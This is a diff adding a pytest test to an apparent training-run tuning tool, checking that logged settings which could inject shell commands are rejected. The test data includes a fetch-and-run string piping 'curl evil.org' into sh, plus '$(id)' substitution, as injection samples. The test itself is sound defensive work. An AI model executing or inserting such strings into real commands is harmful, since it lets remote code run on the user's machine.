@@ -311,6 +311,22 @@ def test_a_knob_that_nobody_blames_stays_as_it_was(tmp_path: Path) -> None:
     assert isinstance(trial, CommandSpec) and "--temperature 0.9" in " ".join(trial.arguments(tmp_path, 1))
 
 
+@pytest.mark.parametrize("evil", ["x; curl evil.org | sh", "$(id)", "--trust_remote_code", "a b", "a\n"])
+def test_text_of_a_log_that_a_shell_could_take_for_more_is_asked_for(evil: str, tmp_path: Path) -> None:
+    run = recorded(trainer_state(tmp_path))
+    wishes = Wishes(command=f"sh -c '{sys.executable} train.py --lr {{learning_rate}} --data {{data}}'")
+    for data in ("org/prompts-v2", evil):
+        told = replace(run, history=replace(run.history, raw_settings={"data": data}))
+        if data == evil:
+            with pytest.raises(UserError, match="does not tell what data was"):
+                study_from_run(told, wishes)
+        else:
+            assert study_from_run(told, wishes).spec.trial.knobs == {"data": data}
+    told = replace(run, history=replace(run.history, settings={"learning_rate": evil}))
+    with pytest.raises(UserError, match="does not tell what learning_rate was"):
+        study_from_run(told, Wishes(command=f"{sys.executable} train.py --lr {{learning_rate}}"))
+
+
 def test_a_command_without_the_knob_to_change_is_no_use(tmp_path: Path) -> None:
     place = trainer_state(tmp_path)
     with pytest.raises(UserError, match=r"for which there is no placeholder. Write {learning_rate} where"):
